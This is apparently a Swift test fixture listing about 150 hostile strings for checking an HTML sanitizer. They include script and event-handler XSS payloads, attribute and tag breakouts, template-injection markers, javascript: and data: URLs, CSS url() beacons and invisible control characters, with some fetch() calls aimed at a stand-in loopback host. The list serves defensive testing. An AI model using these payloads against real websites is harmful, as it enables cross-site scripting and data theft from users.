/// 150 texts that try to become something else than text on a page: markup, attributes, templates, links, style, directions.
///
/// Each holds the word `evil`, which no element, attribute or style of ours has.
enum HostileTexts {
  /// Where a browser would report to, were one of them to work; tests put a listener's own address in place of it.
  static let host = "http://127.0.0.1:9/evil"

  /// All of them, with reports to an address.
  static func all(reportingTo host: String = host) -> [String] {
    elements(host) + handlers(host) + breakouts(host) + templates + links(host) + styles(host)
      + invisible
  }

  private static func elements(_ host: String) -> [String] {
    let script = "<script>fetch('\(host)')</script>"
    return [
      script, "<SCRIPT SRC=\(host)></SCRIPT>", "<script src=\"\(host)\"></script>",
      "<scr<script>ipt>evil()</script>", "<script/evil>evil()</script>",
      "<script\n>evil()</script>",
      "<img src=\(host)>", "<img src=x onerror=fetch('\(host)')>",
      "<img/src=\(host)/onerror=evil()>",
      "<image href=\(host)>", "<svg onload=fetch('\(host)')>", "<svg><script>evil()</script></svg>",
      "<svg><image href=\"\(host)\"/></svg>", "<svg><use href=\"\(host)#a\"/></svg>",
      "<svg><a xlink:href=\"javascript:evil()\"><text>x</text></a></svg>",
      "<svg><animate onbegin=evil() attributeName=x dur=1s>",
      "<svg><foreignObject><iframe src=\(host)>",
      "<math><mtext><script>evil()</script></mtext></math>",
      "<math href=\"javascript:evil()\">x</math>",
      "<iframe src=\(host)></iframe>", "<iframe srcdoc=\"<script>evil()</script>\"></iframe>",
      "<object data=\(host)></object>", "<embed src=\(host)>", "<applet code=evil>",
      "<link rel=stylesheet href=\(host)>", "<link rel=prefetch href=\(host)>",
      "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=\(host)>",
      "<base href=\(host)/>", "<meta http-equiv=refresh content=\"0;url=\(host)\">",
      "<meta name=referrer content=unsafe-url evil>",
      "<form action=\(host)><button>evil</button></form>",
      "<input autofocus onfocus=evil()>", "<button formaction=javascript:evil()>evil</button>",
      "<video poster=\(host)><source src=\(host)></video>", "<audio src=\(host) autoplay>",
      "<track src=\(host)>", "<body background=\(host) onload=evil()>",
      "<frameset><frame src=\(host)>",
      "<table background=\(host)><td background=\(host)>evil", "<marquee onstart=evil()>",
      "<details open ontoggle=fetch('\(host)')>", "<dialog open>evil</dialog>",
      "<portal src=\(host)>", "<template><script>evil()</script></template>",
      "<noscript><img src=\(host)></noscript>", "<xmp><script>evil()</script>", "<plaintext>evil",
      "<textarea>evil", "<title>evil</title>", "<isindex action=\(host)>",
      "<keygen autofocus evil>",
    ]
  }

  private static func handlers(_ host: String) -> [String] {
    [
      "\" onmouseover=\"fetch('\(host)')\" x=\"", "' onmouseover='fetch(1)' evil='",
      "\" autofocus onfocus=evil() \"", "\"><script>fetch('\(host)')</script>",
      "'><svg onload=evil()>", "\" style=\"background:url(\(host))\"", "` onclick=`evil()`",
      "\u{22}\u{301} onclick=evil() x=\u{22}", "\u{22}\u{200D} onclick=evil()",
      "\u{600}\u{22} onclick=evil()", "<\u{301}script>evil()", "\u{600}<script>evil()</script>",
      "&quot; onclick=evil()", "&#34; onclick=evil()", "&#x22; onclick=evil()",
      "&lt;script&gt;evil()&lt;/script&gt;", "&amp;lt;script&amp;gt;evil()",
      "&#60;script&#62;evil()",
      "+ADw-script+AD4-evil()+ADw-/script+AD4-", "\u{FF1C}script\u{FF1E}evil()",
      "\u{2039}script\u{203A}evil()", "%3Cscript%3Eevil()%3C/script%3E",
      "\u{3C}\u{0}script>evil()", "<\u{9}script>evil()", "<!evil><?evil?><%evil%>",
    ]
  }

  private static func breakouts(_ host: String) -> [String] {
    [
      "</style><script>fetch('\(host)')</script>", "</title><script>evil()</script>",
      "</textarea><script>evil()</script>", "</main></body></html><script>evil()</script>",
      "--><script>evil()</script>", "<!-- evil", "--!>evil", "<![CDATA[evil]]>", "]]><evil>",
      "</blockquote></article><h1>evil</h1>", "</script><evil>", "<evil-element is=evil>",
      "</details><details open>evil", "<mark>evil</mark>", "<a href=\(host)>evil</a>",
    ]
  }

  private static let templates = [
    "{{evil}}", "{{{evil}}}", "{{&evil}}", "{{>style}} evil", "{{#words}}evil{{/words}}",
    "{{% CONTENT_TYPE:TEXT}}evil", "{{=<% %>=}}<%evil%>", "{{!evil", "}}evil{{", "{{>report}} evil",
    "\\u003cscript\\u003eevil()", "${evil}", "#{evil}", "<%= evil %>", "{% evil %}",
  ]

  private static func links(_ host: String) -> [String] {
    let schemes = [
      "javascript:evil()", "JaVaScRiPt:evil()", "java\tscript:evil()", "java\nscript:evil()",
      " javascript:evil()", "\u{1}javascript:evil()", "javascript&colon;evil()",
      "javascript\u{3A}//%0Aevil()", "vbscript:evil()", "data:text/html,<script>evil()</script>",
      "data:text/html;base64,ZXZpbA==evil", "blob:evil", "file:///etc/evil", "filesystem:evil",
      "view-source:evil", "ftp://evil.example/", "mailto:evil@evil.example", "tel:+358evil",
      "about:evil", "chrome://evil", "ms-word:ofe|u|evil", "intent://evil#Intent;end",
      "//evil.example/",
      "\\\\evil.example\\a", "/\\evil.example",
    ]
    return schemes
  }

  private static func styles(_ host: String) -> [String] {
    [
      "}body{background:url(\(host))}", "@import '\(host)';", "*{background:url('\(host)')}",
      "expression(evil())", "behavior:url(\(host))", "<style>@import url(\(host));</style>",
      "<p style=position:fixed;inset:0>evil</p>", "<div class=\"card evil\" id=findings>",
    ]
  }

  private static let invisible = [
    "\u{202E}evil", "\u{2066}evil\u{2069}", "\u{200E}evil", "\u{61C}evil", "\u{0}evil",
    "\u{7F}evil",
    "\u{9B}31mevil", "\u{1B}[2Jevil", "\u{2028}evil", "\u{FEFF}evil", "\u{E0041}evil",
    "evil\r\nevil",
    "\u{200B}evil", "\u{AD}evil",
  ]
}
